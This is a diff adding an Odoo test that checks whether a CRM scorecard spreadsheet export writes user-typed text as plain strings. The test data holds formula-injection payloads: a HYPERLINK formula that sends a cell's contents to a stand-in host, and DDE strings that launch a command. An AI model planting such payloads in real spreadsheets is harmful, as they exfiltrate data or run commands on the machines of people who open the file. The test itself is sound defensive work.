@@ -1,5 +1,6 @@
 # License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
 import io
+import re
 import zipfile
 
 import openpyxl
@@ -158,3 +159,62 @@ class TestScorecardXlsx(CrmSuccessOperationsCase):
         # An objective without scorecard lines draws nothing.
         other = self._create_objective(self.company, "No history yet")
         self.assertFalse(other.progress_trend)
+
+
+@tagged("post_install", "-at_install")
+class TestScorecardXlsxInjection(CrmSuccessOperationsCase):
+    """User-typed text is written as text: a spreadsheet never runs it."""
+
+    HYPERLINK = '=HYPERLINK("http://x.example/?d="&B2,"x")'
+    DESCRIPTIONS = ("=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.objective.name = cls.HYPERLINK
+        for index, description in enumerate(cls.DESCRIPTIONS):
+            kpi = cls.env["crm.success.kpi"].create(
+                {
+                    "code": f"test_injection_{index}",
+                    "name": description,
+                    "description": description,
+                    "handler": "orders_count",
+                }
+            )
+            cls._create_objective(cls.company, description, kpi=kpi)
+        cls._confirmed_order(cls.company, "2026-01-10 10:00:00")
+        cls.january = cls.env["crm.success.scorecard"].compute_period(
+            "2026-01-01", "2026-01-31", company=cls.company, period_type="month"
+        )
+
+    def assertText(self, cell, text):
+        self.assertEqual((cell.value, cell.data_type), (text, "s"), cell.coordinate)
+
+    def test_user_text_is_written_as_strings(self):
+        content = self.env["ir.actions.report"]._render_xlsx(
+            REPORT, self.january.ids, None
+        )[0]
+        workbook = openpyxl.load_workbook(io.BytesIO(content))
+        scorecard = workbook["Scorecard"]
+        rows = {row[0].value: row for row in scorecard.iter_rows(min_row=5)}
+        self.assertText(rows[self.HYPERLINK][0], self.HYPERLINK)
+        for description in self.DESCRIPTIONS:
+            self.assertText(rows[description][0], description)  # objective
+            self.assertText(rows[description][1], description)  # KPI name
+        trend_headers = {cell.value: cell for cell in workbook["Trend"][2]}
+        self.assertText(trend_headers[self.HYPERLINK], self.HYPERLINK)
+        definitions = {
+            row[0].value: row for row in workbook["Definitions"].iter_rows(min_row=2)
+        }
+        for index, description in enumerate(self.DESCRIPTIONS):
+            row = definitions[f"test_injection_{index}"]
+            self.assertText(row[1], description)
+            self.assertText(row[6], description)
+        # The chart still plots the progress block; its series are named by a
+        # reference to the header cells, never by the user's text as a formula.
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            chart = archive.read("xl/charts/chart1.xml").decode()
+        references = re.findall("<c:f>(.*?)</c:f>", chart)
+        self.assertIn("Trend!$B$7", references)  # January's progress
+        self.assertIn("Trend!$B$6", references)  # its header, the series name
+        self.assertTrue(all(ref.startswith("Trend!$") for ref in references))
